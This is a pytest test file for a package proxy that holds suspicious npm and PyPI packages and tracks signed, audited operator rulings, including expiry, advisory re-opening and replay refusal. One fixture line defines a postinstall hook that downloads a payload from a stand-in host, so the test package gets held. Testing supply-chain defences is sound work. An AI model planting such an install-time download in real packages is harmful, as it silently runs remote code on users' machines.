"""Signed rulings: they release and refuse for real clients, end by themselves, are re-opened, and never by another's hand."""

import datetime
import json
import shutil
import signal
import subprocess

import pytest

from support.clients import NodeProject, PythonProject
from support.packages import malicious_record, npm_package, osv_bundle, wheel
from support.server import BINARY, wait_until

FETCHES = dict(scripts={"postinstall": "curl -sSf https://cdn.example.invalid/payload.bin -o payload.bin"})
NPM = "pkg:npm/held-fixture@1.4.0"
NPM_FILE = "/held-fixture/-/held-fixture-1.4.0.tgz"
PYPI = "pkg:pypi/fresh-fixture@1.1.0"


def hours_ago(hours: float) -> str:
    moment = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(hours=hours)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.000Z")


@pytest.fixture
def server(deploy, npm_upstream, python_upstream, tmp_path):
    """A deployment that holds an npm package for review and a Python release for its age."""
    npm = npm_upstream([npm_package("held-fixture", "1.4.0", **FETCHES)])
    python = python_upstream([wheel("fresh-fixture", "1.0.0"), wheel("fresh-fixture", "1.1.0", uploaded=hours_ago(1))])
    return deploy(
        npm=npm.url,
        pypi=python.simple_url,
        extra="ecosystems: { pypi: { cooldown: 7d } }",
        environment={"XDG_CONFIG_HOME": str(tmp_path / "config")},
    ).start()


def npm_installs(server, folder):
    return NodeProject(folder, server.url, {"held-fixture": "1.4.0"}).npm("install", "--ignore-scripts")


def pip_installs(server, folder):
    return PythonProject(folder, server.url + "/simple/").pip("fresh-fixture==1.1.0")


def rulings(server, *options):
    return server.run_json("exception", "list", *options)


def audited(server, count):
    """The audit lines about rulings, once there are `count`."""

    def lines():
        text = (server.folder / "data" / "audit.jsonl").read_text()
        found = [json.loads(line) for line in text.splitlines()]
        found = [event for event in found if event["event"] == "disposition"]
        return found if len(found) >= count else None

    return wait_until(lines, f"{count} rulings are audited")


def test_an_allow_closes_the_hold_for_npm_and_pip_and_its_undo_line_opens_it_again(server, tmp_path):
    npm_installs(server, tmp_path / "npm0").failed_saying("403", "held-fixture@1.4.0")
    pip_installs(server, tmp_path / "pip0").failed_saying("fresh-fixture")

    first = server.run("holds", "allow", NPM, "--until", "7d", "--reason", "read the script").stdout
    server.run("holds", "allow", PYPI, "--reason", "our own release")
    npm_installs(server, tmp_path / "npm1").succeeded()
    pip_installs(server, tmp_path / "pip1").succeeded()

    assert first.startswith(f"allowed {NPM} until 20") and "reason: read the script" in first
    undo = next(line for line in first.splitlines() if line.startswith("undo: jurat exception revoke "))
    assert {ruling["purl"] for ruling in rulings(server, "--active")} == {NPM, PYPI}
    shown = server.run("exception", "show", NPM).stdout
    assert "active" in shown and "static    suspicious" in shown and "overrides HELD_REVIEW" in shown

    server.run(*undo.removeprefix("undo: jurat ").split(), "--reason", "no longer needed")
    npm_installs(server, tmp_path / "npm2").failed_saying("403", "held-fixture@1.4.0")
    assert [(ruling["purl"], ruling["state"]) for ruling in rulings(server)] == [(PYPI, "active"), (NPM, "withdrawn")]
    assert "3 dispositions by 1 keys" in server.run("log", "verify").stdout
    logged = audited(server, 3)
    assert [event["decision"] for event in logged] == ["allow", "allow", "withdraw"]
    assert all(event["outcome"] == "logged" and event["actor"] and event["reason"] for event in logged)


def test_an_advisory_that_comes_later_reopens_an_allow_and_a_longer_end_does_not_close_it(server, tmp_path):
    server.run("holds", "allow", NPM, "--reason", "read the script")
    server.run("holds", "allow", PYPI, "--reason", "our own release")
    npm_installs(server, tmp_path / "npm0").succeeded()
    pip_installs(server, tmp_path / "pip0").succeeded()

    for ecosystem, name, version in (("npm", "held-fixture", "1.4.0"), ("PyPI", "fresh-fixture", "1.1.0")):
        record = malicious_record(f"MAL-2099-{ecosystem}", ecosystem, name, [version])
        (tmp_path / f"{ecosystem}.zip").write_bytes(osv_bundle([record]))
    server.run("advisories", "import", f"npm={tmp_path}/npm.zip", f"pypi={tmp_path}/PyPI.zip")
    wait_until(lambda: server.get(NPM_FILE).status == 403, "the advisory acts", 20)
    # At first the suspicious verdict that the allow was in view of comes first again; then there is a new verdict.
    wait_until(lambda: server.get(NPM_FILE).json()["code"] == "BLOCKED_MALICIOUS", "what was served is judged again")
    assert server.run_json("why", PYPI, expect=3)["code"] == "BLOCKED_MALICIOUS"
    npm_installs(server, tmp_path / "npm1").failed_saying("403")
    pip_installs(server, tmp_path / "pip1").failed_saying("fresh-fixture")
    assert {ruling["state"] for ruling in rulings(server)} == {"re-opened"}
    assert "MAL-2099-npm" in server.run("exception", "list", "--purl", NPM).stdout

    before = rulings(server)
    refused = server.run("exception", "extend", NPM, "--until", "30d", "--reason", "still needed", expect=1)
    assert "MAL-2099-npm" in refused.stderr and "--in-view-of-current" in refused.stderr
    assert rulings(server) == before

    # A person who has seen the advisory may still decide otherwise; that is another ruling, in view of the verdict.
    server.run("holds", "allow", NPM, "--reason", "the record is about another package")
    assert server.get(NPM_FILE).status == 200
    states = {ruling["state"] for ruling in rulings(server, "--purl", NPM)}
    assert states == {"active", "superseded"}


def test_an_end_reopens_the_hold_without_a_restart_and_extend_gives_another(server, tmp_path):
    server.run("holds", "allow", NPM, "--until", "3s", "--reason", "one build")
    assert server.get(NPM_FILE).status == 200
    wait_until(lambda: server.get(NPM_FILE).status == 403, "the ruling ends", 20)
    assert [ruling["state"] for ruling in rulings(server)] == ["expired"]
    server.run("exception", "revoke", NPM, "--reason", "x", expect=1)

    server.run("exception", "extend", NPM, "--until", "1h", "--reason", "one more build")
    npm_installs(server, tmp_path / "npm").succeeded()
    assert [ruling["state"] for ruling in rulings(server)] == ["active", "superseded"]
    assert rulings(server)[0]["supersedes"] == rulings(server)[1]["statement"]
    assert "2 dispositions" in server.run("log", "verify").stdout


def changed(record: str, **members) -> str:
    """A drafted record with other members of its predicate, canonical again; None removes one."""
    statement = json.loads(record)
    for name, value in members.items():
        statement["predicate"].pop(name, None)
        if value is not None:
            statement["predicate"][name] = value
    return json.dumps(statement, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


def test_a_deny_beats_an_allow_whichever_came_later(server, tmp_path):
    server.run("holds", "deny", NPM, "--reason", "unmaintained")
    draft = server.run("holds", "allow", NPM, "--reason", "just this once", "--dry-run").stdout
    beside = tmp_path / "beside.json"
    beside.write_text(changed(draft, supersedes=None))
    server.run("exception", "sign", str(beside), "--out", str(tmp_path / "beside.signed"))
    sent = server.run("exception", "submit", str(tmp_path / "beside.signed"))
    assert "does not act: overruled" in sent.stderr
    assert server.get(NPM_FILE).json()["code"] == "BLOCKED_DENIED"
    assert [ruling["state"] for ruling in rulings(server)] == ["overruled", "active"]


def test_a_ruling_is_signed_elsewhere_sent_once_and_never_out_of_turn(server, tmp_path):
    desk = tmp_path / "desk"
    desk.mkdir()
    key = next((server.folder / "data" / "keys").glob("operator-*.key"))
    name = key.name.removeprefix("operator-").removesuffix(".key")
    shutil.move(key, desk / key.name)

    # The server's machine has no operator key: it can draft a record and send one, not sign one.
    missing = server.run("holds", "allow", NPM, "--reason", "read it", expect=5)
    assert "no operator key" in missing.stderr
    draft = tmp_path / "ruling.json"
    draft.write_text(server.run("holds", "allow", NPM, "--reason", "read it", "--operator", name, "--dry-run").stdout)
    signed, other = tmp_path / "ruling.signed", tmp_path / "other.signed"
    server.run("exception", "sign", str(draft), "--keys", str(desk), "--out", str(signed))
    server.run("holds", "allow", NPM, "--reason", "read it twice", "--keys", str(desk), "--out", str(other))
    size = server.head_of_log()
    assert server.get(NPM_FILE).status == 403

    assert "would send" in server.run("exception", "submit", str(signed), "--dry-run").stdout
    assert server.head_of_log() == size
    assert "undo: jurat exception revoke" in server.run("exception", "submit", str(signed)).stdout
    assert server.head_of_log() == size + 1
    npm_installs(server, tmp_path / "npm").succeeded()

    assert "there already" in server.run("exception", "submit", str(signed)).stdout
    replayed = server.run("exception", "submit", str(other), expect=4)
    assert "sequence 1" in replayed.stderr and name in replayed.stderr
    tampered = tmp_path / "tampered.signed"
    tampered.write_text(signed.read_text().replace('"sig":"', '"sig":"A'))
    server.run("exception", "submit", str(tampered), expect=4)
    assert server.head_of_log() == size + 1
    assert "1 disposition by 1 keys" in server.run("log", "verify").stdout
    assert [event["outcome"] for event in audited(server, 2)] == ["logged", "refused"]


def test_watch_tells_each_hold_that_comes_and_goes(server):
    watch = subprocess.Popen(
        [str(BINARY), "holds", "watch", "-o", "jsonl", "--interval", "1"],
        cwd=server.folder, env=server.environment, stdout=subprocess.PIPE, text=True,
    )
    try:
        assert server.get(NPM_FILE).status == 403
        held = json.loads(watch.stdout.readline())
        assert held["change"] == "held" and held["hold"]["purl"] == NPM
        server.run("holds", "allow", NPM, "--reason", "read it")
        released = json.loads(watch.stdout.readline())
        assert released["change"] == "released" and released["hold"]["id"] == held["hold"]["id"]
        watch.send_signal(signal.SIGINT)
        assert watch.wait(timeout=30) == 0
    finally:
        watch.kill()
        watch.wait()
